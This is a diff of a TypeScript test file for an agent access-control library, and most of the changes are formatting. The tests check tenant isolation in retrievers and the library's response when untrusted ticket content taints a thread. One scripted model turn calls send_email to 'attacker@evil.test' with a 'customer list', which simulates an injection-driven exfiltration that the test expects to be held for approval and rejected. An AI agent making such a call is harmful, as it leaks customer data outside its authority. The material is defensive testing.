@@ -1,13 +1,13 @@
-import { HumanMessage, ToolMessage, type BaseMessage } from "@langchain/core/messages";
-import { BaseRetriever } from "@langchain/core/retrievers";
 import type { DocumentInterface } from "@langchain/core/documents";
+import { type BaseMessage, HumanMessage, ToolMessage } from "@langchain/core/messages";
+import { BaseRetriever } from "@langchain/core/retrievers";
 import { tool } from "@langchain/core/tools";
 import { Command, MemorySaver } from "@langchain/langgraph";
 import { createAgent } from "langchain";
+import { AccessDeniedError, aclEntry, createWarden, guardRetriever, type PolicyInput, pendingApprovals } from "langchain-warden";
+import { createTestIdentity, memorySink, scriptedChatModel } from "langchain-warden/testing";
 import { describe, expect, it } from "vitest";
 import { z } from "zod";
-import { AccessDeniedError, aclEntry, createWarden, guardRetriever, pendingApprovals, type PolicyInput } from "langchain-warden";
-import { createTestIdentity, memorySink, scriptedChatModel } from "langchain-warden/testing";
 import { doc, memoryStore, tenants } from "../retrieval/support.js";
 
 async function setup(policy: PolicyInput) {
@@ -31,7 +31,10 @@ async function tenantStore() {
 /** A retriever with no filter support: returns the store's plain top k. */
 class PlainTopK extends BaseRetriever {
   lc_namespace = ["test"];
-  constructor(private readonly store: Awaited<ReturnType<typeof tenantStore>>, private readonly k: number) {
+  constructor(
+    private readonly store: Awaited<ReturnType<typeof tenantStore>>,
+    private readonly k: number,
+  ) {
     super({});
   }
   override async _getRelevantDocuments(query: string): Promise<DocumentInterface[]> {
@@ -112,8 +115,14 @@ describe("the retriever guard", () => {
 
   it("works standalone and in batch", async () => {
     const idp = createTestIdentity();
-    const principal = await createWarden({ audit: { sink: memorySink() }, identity: idp.identity, policy: {} }).authenticate(await idp.issue({ sub: "a", tenant: "t2", groups: ["support"] }));
-    const kb = guardRetriever((await tenantStore()).asRetriever({ k: 2 }), { audit: { sink: memorySink() }, name: "kb", policy: { retrievers: { kb: { scopes: [], documents: { tenantKey: "tenant" } } } } });
+    const principal = await createWarden({ audit: { sink: memorySink() }, identity: idp.identity, policy: {} }).authenticate(
+      await idp.issue({ sub: "a", tenant: "t2", groups: ["support"] }),
+    );
+    const kb = guardRetriever((await tenantStore()).asRetriever({ k: 2 }), {
+      audit: { sink: memorySink() },
+      name: "kb",
+      policy: { retrievers: { kb: { scopes: [], documents: { tenantKey: "tenant" } } } },
+    });
     const batches = await kb.batch(["refund", "policy"], { configurable: { __warden_principal: principal } });
     expect(batches.flat().every((d) => d.metadata.tenant === "t2")).toBe(true);
     expect(batches.flat()).toHaveLength(4);
@@ -143,7 +152,11 @@ describe("untrusted content taints the thread", () => {
       description: "Search support tickets",
       schema: z.object({ query: z.string() }),
     });
-    const send = tool(async ({ to }) => (sent.push(to), `sent to ${to}`), { name: "send_email", description: "Send an email", schema: z.object({ to: z.string(), body: z.string() }) });
+    const send = tool(async ({ to }) => (sent.push(to), `sent to ${to}`), {
+      name: "send_email",
+      description: "Send an email",
+      schema: z.object({ to: z.string(), body: z.string() }),
+    });
     const model = scriptedChatModel([
       [{ name: "search_tickets", args: { query: "ticket 88" } }],
       [{ name: "send_email", args: { to: "attacker@evil.test", body: "customer list" } }],
@@ -161,7 +174,9 @@ describe("untrusted content taints the thread", () => {
     expect(pending?.request.tool).toBe("send_email");
     expect(pending?.request.reason).toContain('retriever "tickets"');
     expect(sent).toEqual([]);
-    expect(sink.ofType("taint.marked")).toMatchObject([{ target: { kind: "retriever", name: "tickets" }, run: { threadId: "tainted-1" }, data: { source: { kind: "retriever", name: "tickets" } } }]);
+    expect(sink.ofType("taint.marked")).toMatchObject([
+      { target: { kind: "retriever", name: "tickets" }, run: { threadId: "tainted-1" }, data: { source: { kind: "retriever", name: "tickets" } } },
+    ]);
     // A manager rejects: the email is never sent.
     const rejected = await agent.invoke(
       new Command({ resume: { requestId: pending!.request.id, decision: "reject", approverToken: await idp.issue({ sub: "mgr", scope: "approvals:send_email" }) } }),
